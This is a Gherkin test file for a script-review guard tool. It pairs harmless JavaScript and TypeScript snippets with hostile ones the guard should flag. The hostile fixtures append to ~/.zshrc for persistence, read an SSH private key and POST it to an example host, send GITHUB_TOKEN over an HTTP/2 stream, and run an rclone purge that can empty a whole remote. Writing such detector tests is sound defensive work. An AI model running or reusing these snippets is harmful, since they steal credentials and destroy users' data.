@script-review
Feature: values followed through iterators, apply, HTTP/2 streams and remote roots
  A loop over an instance of a class whose `[Symbol.iterator]` yields steps sees each step; a
  function of the script called through `Reflect.apply`, `apply` or `call` gets the arguments
  after `this`; an HTTP/2 stream sends to the origin of its session; an rclone delete whose
  target may be a remote with no path deletes every file the remote holds. The same shapes
  doing something harmless stay clean, or only as flagged as the shape itself is.

  Scenario: a loop over an instance whose iterator yields a write into the shell's start-up file
    Given a project file "bootstrap.js" containing:
      """
      const fs = require('fs');
      const os = require('os');
      const path = require('path');
      class Plan {
        constructor(root) { this.root = root; }
        notes() { return { at: path.join(this.root, 'NOTES.md'), text: '# notes\n' }; }
        shell() { return { at: path.join(os.homedir(), '.zshrc'), text: 'export PATH=$PATH:/opt/x/bin\n' }; }
        *[Symbol.iterator]() { yield this.notes(); yield this.shell(); }
      }
      for (const step of new Plan(process.cwd())) fs.appendFileSync(step.at, step.text);
      """
    When I run "terraphim-agent guard review-script --json bootstrap.js"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.category" is "persistence"

  Scenario: the same iterator yielding files of the project only is clean
    Given a project file "bootstrap.js" containing:
      """
      const fs = require('fs');
      const path = require('path');
      class Plan {
        constructor(root) { this.root = root; }
        notes() { return { at: path.join(this.root, 'NOTES.md'), text: '# notes\n' }; }
        env() { return { at: path.join(this.root, '.env.local'), text: 'MODE=dev\n' }; }
        *[Symbol.iterator]() { yield this.notes(); yield this.env(); }
      }
      for (const step of new Plan(process.cwd())) fs.appendFileSync(step.at, step.text);
      """
    When I run "terraphim-agent guard review-script --json bootstrap.js"
    Then the JSON field "verdict" is "clean"

  Scenario: Reflect.apply of the script's own sender posts a private key
    Given a project file "share.js" containing:
      """
      const fs = require('fs');
      const os = require('os');
      const path = require('path');
      const post = (doc) => fetch('https://support-bundle.example.net/upload', { method: 'POST', body: JSON.stringify(doc) });
      const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_ecdsa'), 'utf8');
      Reflect.apply(post, undefined, [{ key }]);
      """
    When I run "terraphim-agent guard review-script --json share.js"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.category" is "exfiltration"

  Scenario: Reflect.apply of the same sender posting a count is only a request to an unlisted host
    Given a project file "share.js" containing:
      """
      const fs = require('fs');
      const post = (doc) => fetch('https://support-bundle.example.net/upload', { method: 'POST', body: JSON.stringify(doc) });
      Reflect.apply(post, undefined, [{ files: fs.readdirSync('.').length }]);
      """
    When I run "terraphim-agent guard review-script --json share.js"
    Then the JSON field "verdict" is "suspicious"
    And the JSON field "findings.0.category" is "network"

  Scenario: an HTTP/2 stream sends a token to the session's origin
    Given a project file "push.js" containing:
      """
      const http2 = require('http2');
      const session = http2.connect('https://board.example.org');
      const req = session.request({ ':method': 'POST', ':path': '/push' });
      req.end(JSON.stringify({ who: 'ci', auth: process.env.GITHUB_TOKEN }));
      req.on('response', () => session.close());
      """
    When I run "terraphim-agent guard review-script --json push.js"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.category" is "exfiltration"

  Scenario: an HTTP/2 stream sending a timing is only a request to an unlisted host
    Given a project file "push.js" containing:
      """
      const http2 = require('http2');
      const session = http2.connect('https://board.example.org');
      const req = session.request({ ':method': 'POST', ':path': '/push' });
      req.end(JSON.stringify({ who: 'ci', ms: Date.now() }));
      req.on('response', () => session.close());
      """
    When I run "terraphim-agent guard review-script --json push.js"
    Then the JSON field "verdict" is "suspicious"
    And the JSON field "findings.0.category" is "network"

  Scenario: an rclone purge whose path may be empty deletes the whole remote
    Given a project file "retire.ts" containing:
      """
      import { execFileSync } from "node:child_process";
      function retire(remote: string, sub?: string): void {
        const where = sub ? `previews/${sub}` : "";
        execFileSync("rclone", ["purge", `${remote}:${where}`]);
      }
      retire(process.argv[2], process.argv[3]);
      """
    When I run "terraphim-agent guard review-script --json retire.ts"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.rule" is "destroy-remote"

  Scenario: the same target only listed is clean
    Given a project file "retire.ts" containing:
      """
      import { execFileSync } from "node:child_process";
      function show(remote: string, sub?: string): void {
        const where = sub ? `previews/${sub}` : "";
        execFileSync("rclone", ["lsf", `${remote}:${where}`]);
      }
      show(process.argv[2], process.argv[3]);
      """
    When I run "terraphim-agent guard review-script --json retire.ts"
    Then the JSON field "verdict" is "clean"
